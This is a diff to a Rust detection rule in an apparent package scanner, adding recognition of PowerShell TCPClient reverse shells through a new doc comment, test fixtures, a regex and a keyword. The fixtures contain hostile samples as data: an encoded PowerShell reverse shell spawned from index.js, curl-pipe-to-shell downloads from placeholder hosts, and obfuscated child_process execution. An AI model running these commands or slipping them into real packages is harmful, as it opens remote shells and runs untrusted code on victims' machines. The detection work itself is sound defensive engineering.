@@ -9,7 +9,8 @@ crate::declare_rule! {
     /// Downloads code and runs it in one go: `curl … | sh`, `wget -O- … | bash`, PowerShell
     /// download cradles (`IEX (New-Object Net.WebClient).DownloadString`, `iwr … | iex`),
     /// `powershell -EncodedCommand` (decoded and checked), `certutil -urlcache` or `bitsadmin`
-    /// downloads followed by execution, `regsvr32 /i:http`. Critical at install time, and when
+    /// downloads followed by execution, `regsvr32 /i:http`, reverse shells (bash `/dev/tcp`,
+    /// `mkfifo` + netcat, a PowerShell `TCPClient` stream fed to `iex`). Critical at install time, and when
     /// such a command is the argument of a real process start but appears nowhere in the source
     /// as written (decoded, reversed or assembled at run time) in code run on install or import
     /// or decoded from a payload.
@@ -28,10 +29,12 @@ crate::declare_rule! {
            r#"{"name":"a","version":"1.0.0","scripts":{"install":"python3 -c \"import base64;exec(base64.b64decode('cHJpbnQoMSk='))\""}}"#,
            "=== package.json\n{\"name\":\"a\",\"version\":\"1.0.0\",\"gypfile\":true}\n=== binding.gyp\n{\"targets\":[{\"target_name\":\"a\",\"variables\":{\"x\":\"<!(sh -c 'curl -fsSL http://198.51.100.23/k.sh | sh; echo 1')\"}}]}",
            "=== package.json\n{\"name\":\"a\",\"version\":\"1.0.0\",\"main\":\"index.js\"}\n=== index.js\nconst r = (s) => s.split('').reverse().join(''); const m = require(r('ssecorp_dlihc')); m[r('cexe')](r('hs | h/tset.x//:ptth Ls- lruc'), () => {})",
+           "=== package.json\n{\"name\":\"a\",\"version\":\"1.0.0\",\"main\":\"index.js\"}\n=== index.js\nconst ps = [\"$c=New-Object System.Net.Sockets.TCPClient('h',443);$s=$c.GetStream();\", \"while(($i=$s.Read($b,0,$b.Length)) -ne 0){$o=(iex $d 2>&1|Out-String)}\"].join(''); require('child_process').spawn('powershell.exe', ['-enc', Buffer.from(ps, 'utf16le').toString('base64')])",
            "=== package.json\n{\"name\":\"a\",\"version\":\"1.0.0\"}\n=== .yarnrc.yml\nyarnPath: .yarn/releases/yarn-4.1.0.cjs\n=== .yarn/releases/yarn-4.1.0.cjs\nrequire('child_process').spawn('/bin/sh', ['-c', 'curl -fsSL https://x.example/r | sh'], { detached: true })"],
     pass: [r#"{"name":"a","version":"1.0.0","scripts":{"postinstall":"node install.js"}}"#,
            "=== package.json\n{\"name\":\"a\",\"version\":\"1.0.0\"}\n=== README.md\nInstall with `curl -fsSL https://get.example.sh | sh`",
            r#"{"name":"a","version":"1.0.0","scripts":{"postinstall":"python3 -c \"import sys; print(sys.version)\" && nc -z localhost 8080 || true"}}"#,
+           "=== package.json\n{\"name\":\"a\",\"version\":\"1.0.0\"}\n=== lib/ping.js\nconst ps = \"$c=New-Object System.Net.Sockets.TCPClient($h,$p);$ok=$c.Connected;$c.Close();Write-Output $ok\"; require('child_process').execFileSync('powershell', ['-NoProfile', '-Command', ps])",
            r#"{"name":"a","version":"1.0.0","scripts":{"pretest":"timeout 1 bash -c '</dev/tcp/127.0.0.1/5432' && echo db is up"}}"#,
            "=== package.json\n{\"name\":\"a\",\"version\":\"1.0.0\",\"gypfile\":true}\n=== binding.gyp\n{\"targets\":[{\"target_name\":\"a\",\"include_dirs\":[\"<!(node -p \\\"require('node-addon-api').include_dir\\\")\"]}]}"],
 }
@@ -52,9 +55,10 @@ fn check(pkg: &Package, out: &mut Emitter) {
     let fetch_run = crate::regex!(
         r"(?i)\b(curl|wget)\b[^\n;|]{0,200}(-o|-O|--output)\s*\S+[^\n]{0,120}(chmod\s+\+x|&&\s*\./|;\s*\./|\bstart\b|\bnohup\b)"
     );
-    // An interactive shell wired to a socket: bash's /dev/tcp, mkfifo + netcat, nc -e.
+    // An interactive shell wired to a socket: bash's /dev/tcp, mkfifo + netcat, nc -e, or a
+    // PowerShell TCP client whose stream is read and fed to `iex` (the Nishang one-liner).
     let revshell = crate::regex!(
-        r"(?i)\b(ba|z|da)?sh\s+-i\b[^\n]{0,60}>&\s*/dev/(tcp|udp)/|/dev/(tcp|udp)/[\w.\-]+/\d+[^\n]{0,20}0>&1|\bmkfifo\b[^\n]{0,160}\b(nc|ncat|netcat)\b|\b(nc|ncat|netcat)(\.exe)?\b[^\n|;]{0,80}\s-(e|c)\s+\S*(sh|cmd(\.exe)?)\b"
+        r"(?i)\b(ba|z|da)?sh\s+-i\b[^\n]{0,60}>&\s*/dev/(tcp|udp)/|/dev/(tcp|udp)/[\w.\-]+/\d+[^\n]{0,20}0>&1|\bmkfifo\b[^\n]{0,160}\b(nc|ncat|netcat)\b|\b(nc|ncat|netcat)(\.exe)?\b[^\n|;]{0,80}\s-(e|c)\s+\S*(sh|cmd(\.exe)?)\b|\bNet\.Sockets\.TCPClient\b[\s\S]{0,300}\.GetStream\(\)[\s\S]{0,400}\b(iex|Invoke-Expression)\b"
     );
     // A Python one-liner that decodes or fetches a stage and exec()s it.
     let pyexec = crate::regex!(
@@ -91,6 +95,7 @@ fn check(pkg: &Package, out: &mut Emitter) {
                 "/dev/tcp/",
                 "/dev/udp/",
                 "mkfifo",
+                "tcpclient",
                 "ncat",
                 "netcat",
                 " -e",
